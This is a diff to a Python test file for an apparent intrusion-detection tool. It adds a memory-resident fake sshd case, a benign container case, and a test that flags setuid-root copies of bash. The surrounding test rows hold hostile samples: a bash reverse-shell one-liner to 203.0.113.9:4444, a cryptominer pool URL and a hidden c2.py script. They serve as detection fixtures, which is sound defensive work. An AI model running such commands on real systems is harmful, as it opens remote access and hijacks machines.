@@ -46,6 +46,7 @@ def process(exe: str | None, *argv: str, **more: Any) -> dict[str, Any]:
         (process("/usr/lib/.sys/upd", "upd"), "hidden"),
         (process("/var/www/.../x", "x"), "hidden"),
         (process("/usr/bin/python3.11", "python3", "-u", "/tmp/.p/c2.py"), "hidden"),
+        (process("/memfd:x", "sshd", "9999", deleted=True), "memory"),
         (process("/opt/x/a", "a", "-o", "stratum+tcp://203.0.113.9:3333"), "miner"),
         (process("/usr/local/bin/xmrig", "xmrig"), "miner"),
         (process("/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), "door"),
@@ -77,6 +78,7 @@ def test_a_sign_is_seen(row: dict[str, Any], sign: str) -> None:
         process("/tmp/.mount_ObsidiXYZ/obsidian", "obsidian"),
         process("/tmp/build/a.out", "./a.out"),
         process("/memfd:runc_cloned:/proc/self/exe", "runc", "init", deleted=True),
+        process("/memfd:lxc-attach", "lxc-attach", deleted=True),
         process("/usr/bin/bash", "bash", "-c", "curl https://example.org/ | grep x"),
         process("/usr/bin/nc", "nc", "-zv", "db.example.org", "5432"),
         process("/usr/bin/nc", "nc", "-l", "9000"),
@@ -161,3 +163,18 @@ def test_programs_that_make_anybody_root() -> None:
         ("stat", "/tmp/shut"): ProbeError(Reason.FORBIDDEN, "shut"),
     }
     assert intrusions.setuid(bare(answers)) == ("/tmp/.b",)
+
+
+def test_shells_that_make_anybody_root_and_copies_of_them() -> None:
+    def entry(mode: int, size: int) -> dict[str, Any]:
+        return {"kind": "file", "mode": mode, "uid": 0, "size": size}
+
+    answers: dict[tuple[Any, ...], Any] = {
+        ("stat", "/usr/bin/bash"): entry(0o755, 1265648),
+        ("stat", "/usr/bin/find"): entry(0o4755, 224848),
+        ("listdir", "/usr/local/bin"): ["sysinfo", "slock", "bash"],
+        ("stat", "/usr/local/bin/sysinfo"): entry(0o4755, 1265648),
+        ("stat", "/usr/local/bin/slock"): entry(0o4755, 40000),
+        ("stat", "/usr/local/bin/bash"): entry(0o755, 1265648),
+    }
+    assert intrusions.shells(bare(answers)) == ("/usr/bin/find", "/usr/local/bin/sysinfo")
